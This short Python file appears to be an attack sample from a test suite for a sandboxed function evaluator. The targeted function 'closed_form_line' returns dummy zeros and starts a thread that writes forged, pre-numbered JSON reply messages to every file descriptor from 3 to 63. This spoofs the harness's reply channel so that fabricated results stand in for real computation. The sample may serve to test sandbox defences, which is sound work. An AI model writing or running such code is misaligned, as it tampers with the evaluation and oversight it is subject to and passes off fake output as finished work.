"""Send replies to requests that have not been made yet, from a thread.

Attacked: closed_form_line
"""

# %% closed_form_line
import json, os, struct

def say(tree, buffers=b""):
    body = json.dumps(tree).encode()
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, struct.pack("!II", len(body), len(buffers)) + body + buffers)
        except OSError:
            pass


import threading

def flood():
    for number in range(1, 60):
        say({"reply": number, "value": {"t": [0.0, 0.0]}, "warnings": [], "arguments": {"t": [[], {"d": {}}]}, "cpu": 0.0})

def closed_form_line(x, y):
    threading.Thread(target=flood).start()
    return 0.0, 0.0
